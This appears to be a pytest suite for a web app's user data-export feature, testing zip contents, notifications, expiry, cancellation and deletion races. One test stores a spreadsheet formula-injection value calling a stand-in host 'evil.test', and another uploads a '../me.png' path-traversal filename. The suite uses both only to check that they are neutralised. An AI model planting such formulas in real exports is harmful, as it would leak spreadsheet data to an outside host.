"""The zip itself: asked for, made by the real job, fetched by its address, thrown away."""

import asyncio
import csv
import io
import json
import tracemalloc
import zipfile
from collections.abc import Mapping
from datetime import timedelta
from typing import Any
from uuid import UUID, uuid4

import httpx2
import pytest

from studyhall.domains.account import jobs
from studyhall.domains.account.service import exports
from studyhall.domains.files import public as files
from studyhall.entrypoints import wiring
from studyhall.platform import clock
from studyhall.platform.clients.storage import Storage
from studyhall.platform.ids import new_id
from studyhall.platform.jobs import JobRun, drain
from studyhall.platform.resources import Resources
from tests.conftest import Committed, MakePerson, Person, RunJobs
from tests.domains.account.test_closing import API, delete, refused, token_of, value

PICTURE = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40
AVATAR = files.UploadRule("avatar", files.RASTER, 100_000_000)


async def ask(person: Person, **more: Any) -> dict[str, Any]:
    answer = await person.client.post(f"{API}/settings/export-data", **more)
    assert answer.status_code == 202, answer.text
    data: dict[str, Any] = answer.json()["data"]
    return data


async def look(person: Person, export_id: str) -> dict[str, Any]:
    answer = await person.client.get(f"{API}/settings/exports/{export_id}")
    assert answer.status_code == 200, answer.text
    export: dict[str, Any] = answer.json()["data"]["export"]
    return export


async def task_of(person: Person, task_id: str) -> dict[str, Any]:
    task: dict[str, Any] = (await person.client.get(f"{API}/tasks/{task_id}")).json()["data"]["task"]
    return task


async def upload(resources: Resources, user_id: UUID, content: bytes, name: str) -> None:
    received = await files.receive(resources, AVATAR, content, name)
    async with resources.unit_of_work() as uow:
        await files.keep(uow, user_id, received)


async def fetch(client: httpx2.AsyncClient, address: str) -> zipfile.ZipFile:
    answer = await client.get(address.removeprefix("https://studyhall.test"))
    assert answer.status_code == 200, answer.text
    return zipfile.ZipFile(io.BytesIO(answer.content))


def a_run(resources: Resources, attempt: int = 1) -> JobRun:
    return JobRun(1, "account.make_export", attempt, 3, resources)


def rows_of(archive: zipfile.ZipFile, name: str) -> list[dict[str, Any]]:
    """The JSON, after a look that the CSV tells the same rows under the same names."""
    told: list[dict[str, Any]] = json.loads(archive.read(f"data/{name}.json"))
    table = archive.read(f"data/{name}.csv").decode("utf-8-sig")
    cells = list(csv.DictReader(io.StringIO(table, newline="")))
    assert len(cells) == len(told)
    assert not told or list(cells[0]) == list(told[0])
    return told


async def test_everything_lies_in_the_zip(
    person: MakePerson, client: httpx2.AsyncClient, resources: Resources, run_jobs: RunJobs
) -> None:
    ada, bob = await person(name="Ada Lovelace"), await person()
    note = '=HYPERLINK("https://evil.test?x="&A1)'
    await ada.client.post(f"{API}/users/me/tags", json={"tag_name": note, "rating_score": 7})
    await upload(resources, ada.id, PICTURE, "../me.png")
    await upload(resources, bob.id, PICTURE, "bob.png")
    asked = await ask(ada)
    assert asked["estimated_time"] == "5-10 minutes" and asked["export"]["state"] == "queued"
    assert asked["export"]["download_url"] is None
    await run_jobs()
    export = await look(ada, asked["export"]["id"])
    assert (export["state"], export["file_count"]) == ("ready", 1) and export["row_count"] > 10
    task = await task_of(ada, asked["task_id"])
    assert (task["state"], task["progress"], task["result"]) == ("succeeded", 100, {"export_id": export["id"]})
    archive = await fetch(client, export["download_url"])
    assert archive.testzip() is None
    assert [row["email"] for row in rows_of(archive, "account")] == [ada.email]
    (tag,) = rows_of(archive, "tags") if "data/tags.json" in archive.namelist() else rows_of(archive, "user_tags")
    assert tag["tag_name"] == note
    tables = [archive.read(name).decode("utf-8-sig") for name in archive.namelist() if name.endswith(".csv")]
    assert any("'=HYPERLINK" in table for table in tables)
    assert not [cell for table in tables for row in csv.reader(io.StringIO(table)) for cell in row if cell[:1] == "="]
    (entry,) = [name for name in archive.namelist() if name.startswith("files/")]
    assert entry.endswith("_me.png") and archive.read(entry) == PICTURE
    manifest = json.loads(archive.read("manifest.json"))
    assert manifest["account_id"] == str(ada.id) and [one["path"] for one in manifest["files"]] == [entry]
    assert sum(one["rows"] for one in manifest["data"]) == export["row_count"]
    assert {f"data/{one['name']}.{kind}" for one in manifest["data"] for kind in ("json", "csv")} == {
        name for name in archive.namelist() if name.startswith("data/")
    }
    whole = b"".join(archive.read(name) for name in archive.namelist()).decode("latin-1")
    assert str(bob.id) not in whole and bob.email not in whole
    assert export["size"] == len(await resources.storage.read(await _key(resources, ada.id)))


async def _key(resources: Resources, user_id: UUID) -> str:
    sql = "SELECT file_path FROM file_uploads WHERE user_id = :id AND file_type = 'export'"
    return str(await value(resources, sql, id=user_id))


async def test_its_owner_is_told_and_nobody_else(person: MakePerson, resources: Resources, run_jobs: RunJobs) -> None:
    ada, bob = await person(timezone="UTC"), await person()
    asked = await ask(ada)
    await run_jobs()
    told = (await ada.client.get(f"{API}/notifications")).json()["data"]["notifications"]
    assert [one["metadata"] for one in told if one["title"] == "Your data is ready"] == [
        {"export_id": asked["export"]["id"]}
    ]
    letters = [one for one in resources.mail.sent if one.subject == "Your data is ready"]  # type: ignore[attr-defined]
    assert [one.to for one in letters] == [ada.email] and "/files/" not in letters[0].text
    others = (await bob.client.get(f"{API}/notifications")).json()["data"]["notifications"]
    assert not [one for one in others if one["title"] == "Your data is ready"]
    refused(await bob.client.get(f"{API}/settings/exports/{asked['export']['id']}"), 404, "EXPORT_NOT_FOUND")
    refused(await ada.client.get(f"{API}/settings/exports/{uuid4()}"), 404, "EXPORT_NOT_FOUND")


async def test_asked_twice_it_is_one(person: MakePerson, run_jobs: RunJobs) -> None:
    ada = await person()
    first, second = await ask(ada), await ask(ada)
    assert first["export"]["id"] == second["export"]["id"] and first["task_id"] == second["task_id"]
    await run_jobs()
    third = await ask(ada)
    assert third["export"]["id"] != first["export"]["id"]
    await run_jobs()
    assert [(await look(ada, one["export"]["id"]))["state"] for one in (first, third)] == ["ready", "ready"]


async def test_asked_twice_at_once_it_is_one(committed: Committed) -> None:
    ada = await committed.person()
    asked = await asyncio.gather(*(ask(ada) for _ in range(5)))
    assert len({one["export"]["id"] for one in asked}) == 1
    assert await value(committed.resources, "SELECT count(*) FROM data_exports") == 1
    await drain(committed.resources, wiring.JOBS)
    assert (await look(ada, asked[0]["export"]["id"]))["state"] == "ready"


async def test_an_earlier_export_is_not_in_the_next(person: MakePerson, client: Any, run_jobs: RunJobs) -> None:
    ada = await person()
    await ask(ada)
    await run_jobs()
    second = await ask(ada)
    await run_jobs()
    archive = await fetch(client, (await look(ada, second["export"]["id"]))["download_url"])
    assert not [name for name in archive.namelist() if name.startswith("files/")]


async def test_a_lost_file_does_not_cost_the_export(
    person: MakePerson, client: Any, resources: Resources, run_jobs: RunJobs
) -> None:
    ada = await person()
    await upload(resources, ada.id, PICTURE, "me.png")
    key = await value(resources, "SELECT file_path FROM file_uploads WHERE user_id = :id", id=ada.id)
    await resources.storage.delete(key)
    asked = await ask(ada)
    await run_jobs()
    archive = await fetch(client, (await look(ada, asked["export"]["id"]))["download_url"])
    assert [one["path"] for one in json.loads(archive.read("manifest.json"))["files"]] == [None]


async def test_the_address_ends_and_the_zip_is_thrown_away(
    person: MakePerson, client: Any, resources: Resources, run_jobs: RunJobs
) -> None:
    ada = await person()
    asked = await ask(ada)
    await run_jobs()
    export = await look(ada, asked["export"]["id"])
    address, key = export["download_url"].removeprefix("https://studyhall.test"), await _key(resources, ada.id)
    with clock.frozen_at(clock.now() + timedelta(minutes=25)):
        assert (await client.get(address)).status_code == 410
    with clock.frozen_at(clock.now() + exports.KEPT_READY + timedelta(minutes=1)):
        await jobs.settle_exports.job.handler(a_run(resources))
        await drain(resources, wiring.JOBS)
        row = "SELECT state FROM data_exports WHERE id = :id"
        assert await value(resources, row, id=UUID(export["id"])) == "expired"
        assert not await resources.storage.exists(key)
        assert await value(resources, "SELECT count(*) FROM file_uploads WHERE user_id = :id", id=ada.id) == 0


async def test_a_cancelled_one_leaves_nothing(person: MakePerson, resources: Resources, run_jobs: RunJobs) -> None:
    ada = await person()
    asked = await ask(ada)
    await ada.client.delete(f"{API}/tasks/{asked['task_id']}")
    await run_jobs()
    assert (await look(ada, asked["export"]["id"]))["state"] == "cancelled"
    assert [one async for one in resources.storage.list()] == []
    assert (await ask(ada))["export"]["id"] != asked["export"]["id"]


async def test_a_deletion_ends_an_export_that_waits(
    person: MakePerson, client: Any, resources: Resources, run_jobs: RunJobs
) -> None:
    ada = await person()
    asked = await ask(ada)
    assert (await delete(ada)).json()["data"]["export_cancelled"] is True
    await run_jobs()
    states = "SELECT e.state || ' ' || t.state FROM data_exports e JOIN background_tasks t ON t.id = e.task_id"
    assert await value(resources, states) == "cancelled cancelled"
    assert [one async for one in resources.storage.list()] == []
    await client.post(f"{API}/settings/account/restore", json={"restore_token": await token_of(client, ada)})
    assert asked["export"]["id"]


@pytest.mark.parametrize("step", ["_fill", "_add_files", "_publish"])
async def test_a_deletion_while_it_is_being_made(
    person: MakePerson, resources: Resources, monkeypatch: pytest.MonkeyPatch, step: str
) -> None:
    ada = await person()
    await upload(resources, ada.id, PICTURE, "me.png")
    asked = await ask(ada)
    whole = getattr(exports, step)

    async def closed_meanwhile(*arguments: Any) -> Any:
        assert (await delete(ada)).status_code == 200
        return await whole(*arguments)

    monkeypatch.setattr(exports, step, closed_meanwhile)
    before = [one.key async for one in resources.storage.list()]
    await jobs.make_export.handler(a_run(resources), export_id=UUID(asked["export"]["id"]))
    assert await value(resources, "SELECT state FROM data_exports") == "cancelled"
    assert [one.key async for one in resources.storage.list()] == before
    assert await value(resources, "SELECT count(*) FROM notifications WHERE title = 'Your data is ready'") == 0


async def test_a_deletion_in_the_very_last_step(
    person: MakePerson, resources: Resources, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The bytes are in the store already; they must not stay there."""
    ada = await person()
    asked = await ask(ada)
    receive = files.receive

    async def closed_meanwhile(*arguments: Any) -> Any:
        received = await receive(*arguments)
        assert (await delete(ada)).status_code == 200
        return received

    monkeypatch.setattr(files, "receive", closed_meanwhile)
    await jobs.make_export.handler(a_run(resources), export_id=UUID(asked["export"]["id"]))
    assert [one async for one in resources.storage.list()] == []


async def test_a_deletion_throws_ready_ones_away(
    person: MakePerson, client: Any, resources: Resources, run_jobs: RunJobs
) -> None:
    ada = await person()
    asked = await ask(ada)
    await run_jobs()
    address = (await look(ada, asked["export"]["id"]))["download_url"].removeprefix("https://studyhall.test")
    await delete(ada)
    assert (await client.get(address)).status_code == 404
    await run_jobs()
    assert [one async for one in resources.storage.list()] == []


async def test_a_run_that_died_begins_again_and_the_last_one_says_so(
    person: MakePerson, resources: Resources, monkeypatch: pytest.MonkeyPatch
) -> None:
    ada = await person()
    asked = await ask(ada)
    export_id = UUID(asked["export"]["id"])

    async def broken(*arguments: Any) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(exports, "_publish", broken)
    with pytest.raises(OSError, match="disk full"):
        await jobs.make_export.handler(a_run(resources), export_id=export_id)
    assert (await look(ada, str(export_id)))["state"] == "running"
    with pytest.raises(OSError, match="disk full"):
        await jobs.make_export.handler(a_run(resources, attempt=3), export_id=export_id)
    assert (await look(ada, str(export_id)))["state"] == "failed"
    assert (await task_of(ada, asked["task_id"]))["error"] == "The export could not be made. Ask for it again."
    monkeypatch.undo()
    assert (await ask(ada))["export"]["id"] != str(export_id)


async def test_one_whose_job_is_gone_does_not_block_for_ever(person: MakePerson, resources: Resources) -> None:
    ada = await person()
    first = await ask(ada)
    with clock.frozen_at(clock.now() + exports.STUCK_AFTER + timedelta(minutes=1)):
        async with resources.unit_of_work() as uow:
            row = await exports.find(uow, await _actor(resources, ada), UUID(first["export"]["id"]))
            asked = await exports.ask(uow, await _actor(resources, ada))
            assert asked.is_new and row.state == "failed"
    second = str(asked.row.id)
    with clock.frozen_at(clock.now() + 3 * exports.STUCK_AFTER):
        await jobs.settle_exports.job.handler(a_run(resources))
    assert await value(resources, "SELECT state FROM data_exports WHERE id = :id", id=UUID(second)) == "failed"


async def _actor(resources: Resources, person: Person) -> Any:
    with clock.frozen_at(clock.now() - exports.STUCK_AFTER - timedelta(minutes=1)):
        return await resources.authenticator(resources, person.tokens["access_token"])


async def test_many_rows_and_a_large_file_take_little_memory(
    person: MakePerson, resources: Resources, client: Any, run_jobs: RunJobs
) -> None:
    ada = await person()
    row = {"user_id": ada.id, "type": "system", "title": "t" * 200, "message": "m" * 3000}
    table = wiring.METADATA.tables["notifications"]
    async with resources.unit_of_work() as uow:
        for _ in range(4):
            await uow.session.execute(table.insert(), [{"id": new_id(), **row} for _ in range(1000)])
    # On disk: the store of the other tests lies in memory, and would count against the export.
    resources.storage = Storage.from_settings(resources.settings, resources.keys)
    await upload(resources, ada.id, PICTURE[:8] + bytes(16_000_000), "large.png")
    asked = await ask(ada)
    tracemalloc.start()
    try:
        await exports.make(a_run(resources), UUID(asked["export"]["id"]))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    export = await look(ada, asked["export"]["id"])
    assert export["size"] > 16_000_000 and export["row_count"] > 4000 and peak < 10_000_000, peak


def test_values_that_json_has_no_word_for_are_told() -> None:
    from studyhall.domains.account.service.archive import Archive, Spool

    odd: Mapping[str, Any] = {"bytes": b"\x00\xff", "id": new_id(), "at": clock.now(), "long": 2**70, "nothing": None}
    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as folder:
        spool, archive = Spool(Path(folder)), Archive(Path(folder))
        spool.begin("odd")
        spool.add([{**odd, "long": str(odd["long"])}, {"more": "x", "bytes": b""}])
        spool.end()
        archive.add_stream(spool, spool.streams[0])
        archive.finish()
        assert list(Path(folder).iterdir()) == [], "temporary files have no name"
        rows = json.loads(zipfile.ZipFile(archive.file).read("data/odd.json"))
        assert rows[0]["bytes"] == "00ff" and rows[1] == {"more": "x", "bytes": ""}
        spool.close()
        archive.close()
